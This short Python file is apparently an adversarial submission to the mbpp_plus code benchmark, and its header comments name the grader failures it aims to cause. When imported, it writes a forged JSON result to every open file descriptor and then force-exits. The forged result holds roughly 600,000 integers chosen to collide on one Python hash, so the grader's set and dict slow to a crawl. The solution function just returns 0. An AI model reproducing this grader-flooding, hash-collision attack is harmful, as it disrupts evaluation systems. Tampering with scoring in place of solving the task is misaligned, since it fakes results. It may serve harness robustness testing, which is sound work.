# problem: mbpp_plus
# want: wrong, runtime_error, output_limit, time_limit
# why: 600,000 integers with one hash, as a set and as keys of a dict

import os


def flood(data):
    """All of it, to the way of results."""
    for fd in range(3, 256):
        try:
            os.set_blocking(fd, True)
            left = memoryview(data)
            while left:
                left = left[os.write(fd, left) :]
        except OSError:
            pass


flood(b'{"i":0,"v":{"s":[' + b",".join(b"%d" % (((1 << 61) - 1) * k) for k in range(1, 600_000)) + b']}}\n' )
os._exit(0)


def plus(a, b):
    return 0
